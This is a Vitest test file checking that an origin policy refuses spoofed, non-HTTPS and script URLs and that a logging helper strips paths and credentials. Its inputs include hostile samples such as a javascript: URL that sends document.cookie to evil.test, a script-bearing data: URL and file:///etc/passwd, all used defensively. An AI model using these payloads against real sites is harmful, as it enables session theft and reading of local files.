import { describe, expect, it } from 'vitest';
import { isConsoleError } from '../../../../src-main/core/console-error';
import { OriginPolicy, originForLog } from '../../../../src-main/core/view-policy/origin-policy';

const policy = new OriginPolicy('https://odoo.example.com');

describe('OriginPolicy', () => {
  it.each([
    ['a look-alike host', 'https://odoo.example.com.evil.test/odoo'],
    ['userinfo that makes the real host evil.test', 'https://odoo.example.com@evil.test/odoo'],
    ['userinfo on the right host', 'https://admin:secret@odoo.example.com/odoo'],
    ['a different port', 'https://odoo.example.com:8443/odoo'],
    ['plain http on the same host', 'http://odoo.example.com/odoo'],
    ['another host carrying the origin in its query', 'https://evil.test/?next=https://odoo.example.com'],
    ['a subdomain', 'https://www.odoo.example.com/'],
    ['about:blank', 'about:blank'],
    ['javascript:', 'javascript:alert(document.cookie)'],
    ['file:', 'file:///etc/passwd'],
    ['data:', 'data:text/html,<script>alert(1)</script>'],
    ['blob: of the same origin', 'blob:https://odoo.example.com/0b5a7e7c'],
    ['something that is not a URL', 'odoo.example.com/odoo'],
  ])('refuses %s', (_what, url) => {
    expect(policy.allows(url)).toBe(false);
  });

  it.each([
    ['a page of the origin', 'https://odoo.example.com/odoo/action-12?debug=1'],
    ['the bare origin', 'https://odoo.example.com'],
    ['the same origin spelt with capitals and the default port', 'https://ODOO.Example.com:443/web#id=3'],
  ])('allows %s', (_what, url) => {
    expect(policy.allows(url)).toBe(true);
  });

  it('keeps only the origin of a connection URL given with a path', () => {
    const fromUrl = new OriginPolicy('http://127.0.0.1:8069/odoo');
    expect(fromUrl.origin).toBe('http://127.0.0.1:8069');
    expect(fromUrl.secure).toBe(false);
    expect(fromUrl.allows('http://127.0.0.1:8069/web/login')).toBe(true);
    expect(fromUrl.allows('http://127.0.0.1:8070/web/login')).toBe(false);
  });

  it.each(['ftp://odoo.example.com', 'javascript:alert(1)', 'https://user:pw@odoo.example.com', 'not a url'])(
    'refuses to be built for the origin %s',
    (origin) => {
      let caught: unknown;
      try {
        new OriginPolicy(origin);
      } catch (error) {
        caught = error;
      }
      expect(isConsoleError(caught) && caught.kind).toBe('view');
    },
  );
});

describe('originForLog', () => {
  it('keeps the origin of a web URL and drops its path, query and credentials', () => {
    expect(originForLog('https://user:pw@evil.test:8443/steal?token=T0K3N#x')).toBe('https://evil.test:8443');
  });

  it('names only the scheme of other URLs', () => {
    expect(originForLog('javascript:fetch("https://evil.test?c="+document.cookie)')).toBe('javascript:');
    expect(originForLog('file:///home/alice/secret.txt')).toBe('file:');
  });

  it('says so when the URL does not parse', () => {
    expect(originForLog('::not a url::')).toBe('unparseable-url');
  });
});
